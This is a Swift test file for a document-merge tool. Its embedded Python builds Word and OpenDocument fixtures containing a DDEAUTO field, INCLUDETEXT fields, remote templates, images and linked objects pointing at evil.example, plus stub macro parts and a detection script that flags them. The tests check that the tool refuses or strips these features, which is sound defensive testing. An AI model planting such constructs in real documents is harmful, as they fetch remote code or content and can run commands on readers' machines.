import Foundation
import Testing

@Suite(.enabled(if: Tool.has("python3"), "python3, which makes the files, is not on this machine"))
struct `Documents that should not simply be merged` {
  /// What is refused: nothing is written.
  private static let refused: [(file: String, code: String)] = [
    ("坏关系.docx", "O121"), ("外来段.docx", "J104"), ("加密.docx", "O131"), ("空.docx", "O135"), ("平面.odt", "O134"),
    ("加密.odt", "O139"), ("缺正文.docx", "O137"), ("纯文本.docx", "O135"),
  ]

  /// What is defused: the rest is merged, and what happened is said.
  private static let defused: [(file: String, code: String)] = [
    ("缺图.docx", "J130"), ("断链.docx", "J130"), ("缺页眉.docx", "J130"), ("宏.docm", "J105"), ("藏宏.docx", "J105"),
    ("外模板.docx", "J115"), ("外图.docx", "J106"), ("取外文.docx", "J110"), ("链接对象.docx", "J108"),
    ("外设置.docx", "J107"),
    ("缺图.odt", "J219"), ("外图.odt", "J213"), ("动态.odt", "J212"), ("外段.odt", "J215"), ("宏.odt", "J211"),
    ("外对象.odt", "J214"),
  ]

  @Test(arguments: refused) func `are refused where text would be lost`(file: String, code: String) throws {
    let scratch = try Self.documents()
    let ending = file.hasSuffix("odt") ? "odt" : "docx"
    let (outcome, results) = try Command.results(
      ["merge", scratch("好.\(ending)"), scratch(file), "-o", scratch("合.\(ending)")])
    #expect(outcome.status == 2 && !outcome.wasKilled)
    #expect(results.flatMap(\.codes) == [code], "\(results.flatMap(\.findings).map(\.message))")
    #expect(results.flatMap(\.findings).allSatisfy { !$0.hints.isEmpty })
    #expect(!FileManager.default.fileExists(atPath: scratch("合.\(ending)")))
  }

  @Test(arguments: defused) func `are defused, and that is said`(file: String, code: String) throws {
    let scratch = try Self.documents()
    let ending = file.hasSuffix("odt") ? "odt" : "docx"
    var written: [[UInt8]] = []
    for name in ["合", "又合"] {
      let (outcome, results) = try Command.results(
        ["merge", scratch("好.\(ending)"), scratch(file), "-o", scratch("\(name).\(ending)"), "--title", "合订"])
      #expect(outcome.status == 0 && !outcome.wasKilled, "\(outcome.all)")
      #expect(results.flatMap(\.codes) == [code], "\(results.flatMap(\.findings).map(\.message))")
      #expect(results.flatMap(\.findings).allSatisfy { !$0.message.isEmpty && !$0.hints.isEmpty })
      written.append(try contents(of: scratch("\(name).\(ending)")))
    }
    #expect(written[0] == written[1])
    let found = try Tool.python(Self.judge, [scratch("合.\(ending)")])
    #expect(found.status == 0 && found.output == "", "\(found.all)")
  }

  @Test func `are known by what they are and not by their names`() throws {
    let scratch = try Self.documents()
    try FileManager.default.copyItem(atPath: scratch("好.docx"), toPath: scratch("冒名.odt"))
    let (outcome, results) = try Command.results(
      ["merge", scratch("好.odt"), scratch("冒名.odt"), "-o", scratch("合.odt")])
    #expect(outcome.status == 2)
    #expect(results.flatMap(\.codes) == ["D175"])
    #expect(results.flatMap(\.findings).first?.location.file == scratch("冒名.odt"))
  }

  /// Prints what a merged file must not hold.
  private static let judge = """
    import re, sys, zipfile
    package = zipfile.ZipFile(sys.argv[1])
    for name in package.namelist():
        text = package.read(name).decode("utf-8", "replace")
        if re.search("vba|Basic/|macro", name, re.I): print("part", name)
        for word in ("DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "evil.example", "dde-source", "vnd.ms-word.document.macro"):
            if word in text: print(name, word)
        if name.endswith(".rels"):
            for item in re.findall("<Relationship [^>]*>", text):
                if "External" in item and "/hyperlink" not in item: print(name, item)
        elif name.endswith(".xml") and package.read(name)[:1] == b"<":
            __import__("xml.dom.minidom").dom.minidom.parseString(package.read(name))
    rels = {n: package.read(n).decode() for n in package.namelist() if n.endswith(".rels")}
    for name, text in rels.items():
        folder = name.split("_rels/")[0]
        for item in re.findall("<Relationship [^>]*>", text):
            target = re.search('Target="([^"]*)"', item).group(1)
            if "External" in item: continue
            path = []
            for piece in (folder + target).split("/"):
                if piece == "..": path.pop()
                else: path.append(piece)
            if "/".join(path) not in package.namelist(): print("dangling", name, target)
    """

  private static func documents() throws -> Scratch {
    let scratch = try Scratch()
    try scratch.write("空.docx", "")
    try scratch.write("纯文本.docx", "这不是文档。")
    try scratch.write("加密.docx", Faulty.compound)
    let outcome = try Tool.python(script, [scratch.path])
    try #require(outcome.status == 0, "\(outcome.all)")
    return scratch
  }

  private static let script = #"""
    import sys, zipfile
    folder = sys.argv[1]
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    spaces = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="%s" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"') % office[:-1]
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    def text(words): return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % words
    def links(items):
        return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(
          '<Relationship Id="%s" Type="%s%s" Target="%s"%s/>' % (i, office, k, t, ' TargetMode="External"' if x else "")
          for i, k, t, x in items) + "</Relationships>")
    def word(name, body="", items=(), parts={}, section="", kind=main, raw=None, without=()):
        types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="%s"/></Types>' % kind
        all = {"[Content_Types].xml": types, "_rels/.rels": links([("r", "officeDocument", "word/document.xml", 0)]),
          "word/document.xml": "<w:document %s><w:body>%s%s<w:sectPr>%s</w:sectPr></w:body></w:document>" % (spaces, text("正文"), body, section),
          "word/_rels/document.xml.rels": raw or links(items), **parts}
        with zipfile.ZipFile(folder + "/" + name, "w", zipfile.ZIP_DEFLATED) as package:
            for part, data in all.items():
                if part not in without: package.writestr(part, data)
    def picture(attribute):
        return '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip %s/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>' % attribute
    def field(words):
        return '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧值</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' % words
    word("好.docx")
    word("缺图.docx", picture('r:embed="p"'), [("p", "image", "media/none.png", 0)])
    word("断链.docx", picture('r:embed="rId99"'))
    word("缺页眉.docx", items=[("h", "header", "header9.xml", 0)], section='<w:headerReference w:type="default" r:id="h"/>')
    word("坏关系.docx", raw="<Relationships><Relationship")
    word("缺正文.docx", without=("word/document.xml",))
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    word("宏.docm", items=[("v", "vbaProject", "vbaProject.bin", 0)], parts=macro, kind="application/vnd.ms-word.document.macroEnabled.main+xml")
    word("藏宏.docx", items=[("v", "vbaProject", "vbaProject.bin", 0)], parts=macro)
    settings = '<w:settings %s><w:attachedTemplate r:id="t"/></w:settings>' % spaces
    word("外模板.docx", items=[("s", "settings", "settings.xml", 0)], parts={"word/settings.xml": settings, "word/_rels/settings.xml.rels": links([("t", "attachedTemplate", "file://evil.example/a.dotm", 1)])})
    word("外图.docx", picture('r:link="p"'), [("p", "image", "http://evil.example/a.png", 1)])
    word("外设置.docx", '<w:p><w:r><w:object><v:shape id="s"><v:imagedata r:id="f"/></v:shape></w:object></w:r></w:p>', [("f", "frame", "http://evil.example/f.htm", 1)])
    word("取外文.docx", field(' DDEAUTO excel "C:\\a.xls" R1C1 ') + field(' INCLUDETEXT "http://evil.example/a.docx" ') + field(' INCLUDEPICTURE "http://evil.example/a.png" \\d ') + '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;//evil.example/b&quot; "><w:r><w:t>旧值</w:t></w:r></w:fldSimple></w:p>')
    word("链接对象.docx", '<w:p><w:r><w:object><v:shape id="s"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s" DrawAspect="Content" r:id="o"/></w:object></w:r></w:p>', [("o", "oleObject", "file://evil.example/a.xlsx", 1)])
    word("外来段.docx", '<w:altChunk r:id="c"/>', [("c", "aFChunk", "chunk.htm", 0)], {"word/chunk.htm": "<p>外来</p>"})

    names = ["office", "style", "text", "table", "draw", "fo", "svg-compatible", "script", "manifest"]
    odf = 'xmlns:xlink="http://www.w3.org/1999/xlink" ' + " ".join('xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (n.split("-")[0], {"draw": "drawing", "fo": "xsl-fo-compatible"}.get(n, n)) for n in names)
    def odt(name, body="", parts={}, secret=""):
        kind = "application/vnd.oasis.opendocument.text"
        content = '<office:document-content %s office:version="1.3"><office:body><office:text><text:p>正文</text:p>%s</office:text></office:body></office:document-content>' % (odf, body)
        manifest = '<manifest:manifest %s manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">%s</manifest:file-entry></manifest:manifest>' % (odf, kind, secret)
        with zipfile.ZipFile(folder + "/" + name, "w") as package:
            package.writestr("mimetype", kind)
            for part, data in {"content.xml": content, "META-INF/manifest.xml": manifest, **parts}.items():
                package.writestr(part, data)
    def image(link): return '<text:p><draw:frame draw:name="f" text:anchor-type="as-char"><draw:image xlink:href="%s" xlink:type="simple"/></draw:frame></text:p>' % link
    odt("好.odt")
    odt("缺图.odt", image("Pictures/none.png"))
    odt("外图.odt", image("http://evil.example/a.png"))
    odt("动态.odt", '<text:p><text:dde-connection text:connection-name="c">旧值</text:dde-connection></text:p>')
    odt("外段.odt", '<text:section text:name="s"><text:section-source xlink:href="http://evil.example/a.odt" xlink:type="simple"/><text:p>旧文</text:p></text:section>')
    odt("宏.odt", parts={"Basic/Standard/Module1.xml": "<x/>"})
    odt("外对象.odt", '<text:p><draw:frame draw:name="f" text:anchor-type="as-char"><draw:object xlink:href="http://evil.example/a.ods" xlink:type="simple"/></draw:frame></text:p>')
    odt("加密.odt", secret='<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/>')
    open(folder + "/平面.odt", "w", encoding="utf-8").write('<?xml version="1.0" encoding="UTF-8"?><office:document %s office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>正文</text:p></office:text></office:body></office:document>' % odf)
    """#
}
